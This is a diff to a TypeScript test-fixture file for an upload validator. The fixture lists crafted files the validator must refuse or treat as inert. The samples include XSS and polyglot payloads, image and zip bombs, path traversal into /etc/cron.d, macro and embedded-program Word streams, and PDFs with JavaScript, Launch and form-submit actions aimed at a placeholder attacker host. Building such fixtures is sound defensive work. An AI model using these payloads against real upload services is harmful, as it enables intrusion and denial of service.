@@ -1,6 +1,7 @@
-import { deflateSync } from "node:zlib";
 import sharp from "sharp";
-import { docOf, docxOf, pdfOf, zipOf } from "../files.ts";
+import { activePdfs, objectStreamOf } from "./attack-pdfs.ts";
+import { activeWord, linking } from "./attack-word.ts";
+import { compoundOf, docOf, docxOf, pdfOf, zipOf } from "../files.ts";
 
 const picture = { create: { width: 40, height: 20, channels: 3 as const, background: "#3456c4" } };
 /** Small and valid. */
@@ -22,7 +23,7 @@ export const script = "<script>alert(document.domain)</script>";
 export const refused: [what: string, fileName: string, data: string | Buffer, code: string][] = [
   ["1 a page that calls itself PDF", "protokoll.pdf", `<html>${script}</html>`, "FILE_CONTENT"],
   ["1b a page after the first bytes of a PDF", "protokoll.pdf", `%PDF-1.4\n<html>${script}</html>`, "FILE_CONTENT"],
-  ["2 a PDF behind other bytes", "protokoll.pdf", Buffer.concat([Buffer.from(`${script}\n`), pdfOf()]), "FILE_CONTENT"],
+  ["2 a PDF too far behind other bytes", "protokoll.pdf", Buffer.concat([Buffer.alloc(1025), pdfOf()]), "FILE_CONTENT"],
   ["3 a GIF that is a script too", "bild.gif", "GIF89a/*…*/=1;alert(1)", "FILE_TYPE"],
   ["4 a GIF with a PNG's name", "bild.png", "GIF89a/*…*/=1;alert(1)", "FILE_CONTENT"],
   ["5 an SVG with a PNG's name", "bild.png", `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, "FILE_CONTENT"],
@@ -33,13 +34,13 @@ export const refused: [what: string, fileName: string, data: string | Buffer, co
   [
     "10 a PNG that is larger than its bytes",
     "bomb.png",
-    await sharp({ create: { width: 7000, height: 6000, channels: 3, background: "#fff" } })
+    await sharp({ create: { width: 8000, height: 7000, channels: 3, background: "#fff" } })
       .png()
       .toBuffer(),
     "IMAGE_TOO_LARGE",
   ],
   ["11 a PNG that says it is 50,000 by 50,000", "bomb.png", claiming(png, 50_000, 50_000), "IMAGE_TOO_LARGE"],
-  ["12 half a picture", "halv.jpg", jpeg.subarray(0, jpeg.length - 60), "FILE_CONTENT"],
+  ["12 half a picture", "halv.png", png.subarray(0, png.length - 60), "FILE_CONTENT"],
   [
     "13 a zip bomb",
     "bomb.docx",
@@ -63,7 +64,7 @@ export const refused: [what: string, fileName: string, data: string | Buffer, co
     "17 an archive in the archive",
     "nested.docx",
     docxOf([{ name: "word/embeddings/a.zip", data: zipOf([]) }]),
-    "FILE_CONTENT",
+    "FILE_ACTIVE",
   ],
   ["18 a zip that is no document", "arkiv.docx", zipOf([{ name: "a.txt", data: "hej" }]), "FILE_CONTENT"],
   ["19 parts with paths that lead out", "ut.docx", docxOf([{ name: "../../etc/cron.d/x", data: "x" }]), "FILE_CONTENT"],
@@ -88,8 +89,8 @@ export const refused: [what: string, fileName: string, data: string | Buffer, co
   ],
   ["23 UTF-16 without a mark", "brev.txt", Buffer.from("hej på dig", "utf16le"), "FILE_CONTENT"],
   ["24 bytes that are no text", "brev.txt", Buffer.from([0x68, 0xe5, 0x6a, 0x81]), "FILE_CONTENT"],
-  ["25 an installer as an old document", "program.doc", docOf(["MsiPackage"]), "FILE_CONTENT"],
-  ["26 an old document with macros", "makro.doc", docOf(["WordDocument", "_VBA_PROJECT"]), "FILE_MACROS"],
+  ["25 an installer as an old document", "program.doc", compoundOf({ MsiPackage: Buffer.alloc(4096) }), "FILE_ACTIVE"],
+  ["26 an old document with macros", "makro.doc", docOf(["Macros/VBA/_VBA_PROJECT"]), "FILE_MACROS"],
   ["27 a page that calls itself an old document", "sida.doc", `<html>${script}</html>`, "FILE_CONTENT"],
   [
     "34 a template on another machine",
@@ -171,25 +172,25 @@ export const refused: [what: string, fileName: string, data: string | Buffer, co
   [
     "50 a script in a compressed object stream",
     "gomt.pdf",
-    pdfOf(objectStreamOf("5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
+    pdfOf(objectStreamOf("5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"), { catalog: "/OpenAction 5 0 R" }),
     "FILE_ACTIVE",
   ],
   [
     "51 an object stream whose own name is escaped",
     "gomt.pdf",
-    pdfOf(objectStreamOf("5 0 << /S /Launch >>", { type: "/Obj#53tm" })),
+    pdfOf(objectStreamOf("5 0 << /S /Launch >>", { type: "/Obj#53tm" }), { catalog: "/OpenAction 5 0 R" }),
     "FILE_ACTIVE",
   ],
   [
     "52 an object stream packed twice",
     "dubbel.pdf",
     pdfOf(objectStreamOf("5 0 << /S /Launch >>", { filter: "[/ASCIIHexDecode /FlateDecode]" })),
-    "FILE_ACTIVE",
+    "FILE_CONTENT",
   ],
   [
     "53 an object stream that nobody can look into",
     "last.pdf",
-    pdfOf(objectStreamOf("5 0 << >>"), { catalog: "/Encrypt 9 0 R" }),
+    pdfOf(objectStreamOf("5 0 << >>"), { trailer: "/Encrypt 9 0 R" }),
     "FILE_ACTIVE",
   ],
   [
@@ -210,12 +211,9 @@ export const refused: [what: string, fileName: string, data: string | Buffer, co
     pdfOf("", { catalog: "/AA << /O << /S /SubmitForm /F (https://angripare.example) >> >>" }),
     "FILE_ACTIVE",
   ],
-  [
-    "57 a program packed into an old document",
-    "paket.doc",
-    docOf(["WordDocument", "\u0001Ole10Native"]),
-    "FILE_ACTIVE",
-  ],
+  ["57 a program packed into an old document", "paket.doc", docOf(["ObjectPool/_1/\u0001Ole10Native"]), "FILE_ACTIVE"],
+  ...activePdfs,
+  ...activeWord,
 ];
 
 /** Files that are accepted, and must then not run. */
@@ -227,7 +225,13 @@ export const inert: [what: string, fileName: string, data: string | Buffer, type
     pdfOf("", { catalog: "/OpenAction [3 0 R /Fit] /URI (https://example.se/Web/JavaScript)" }),
     "application/pdf",
   ],
-  ["30 a PDF that is encrypted", "last.pdf", pdfOf("", { catalog: "/Encrypt 9 0 R" }), "application/pdf"],
+  ["30 a PDF that is encrypted", "last.pdf", pdfOf("", { trailer: "/Encrypt 9 0 R" }), "application/pdf"],
+  [
+    "2b a PDF behind other bytes",
+    "protokoll.pdf",
+    Buffer.concat([Buffer.from(`${script}\n`), pdfOf()]),
+    "application/pdf",
+  ],
   ["31 text that is a page", "sida.txt", `<html>${script}</html>`, "text/plain; charset=utf-8"],
   ["32 text in UTF-7", "utf7.txt", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/plain; charset=utf-8"],
   [
@@ -240,23 +244,6 @@ export const inert: [what: string, fileName: string, data: string | Buffer, type
   ],
 ];
 
-/** A Word document with one relationship. */
-function linking(type: string, target: string, mode = "External"): Buffer {
-  const full = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
-  const data = `<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="rId1" Type="${full}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
-  return docxOf([{ name: "word/_rels/settings.xml.rels", data }]);
-}
-
-/** A compressed object stream, as PDF 1.5 keeps objects in. */
-export function objectStreamOf(objects: string, { type = "/ObjStm", filter = "/FlateDecode" } = {}): Buffer {
-  const packed = deflateSync(Buffer.from(objects, "latin1"));
-  return Buffer.concat([
-    Buffer.from(`\n8 0 obj\n<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`),
-    packed,
-    Buffer.from("\nendstream\nendobj\n"),
-  ]);
-}
-
 /** Ordinary Word documents: with links, a template and a chart's workbook. */
 export const ordinaryDocuments: [what: string, data: Buffer][] = [
   ["links", linking("hyperlink", "https://example.se/a?b=1&amp;c=2")],
@@ -264,10 +251,18 @@ export const ordinaryDocuments: [what: string, data: Buffer][] = [
   ["a picture in the document", linking("image", "media/image1.png", "Internal")],
   [
     "a chart",
-    docxOf([
-      { name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: "x" },
-      { name: "word/printerSettings/printerSettings1.bin", data: "x" },
-    ]),
+    docxOf(
+      [
+        { name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: "x" },
+        { name: "word/printerSettings/printerSettings1.bin", data: "x" },
+      ],
+      {
+        types: {
+          "word/printerSettings/printerSettings1.bin":
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings",
+        },
+      },
+    ),
   ],
 ];
 
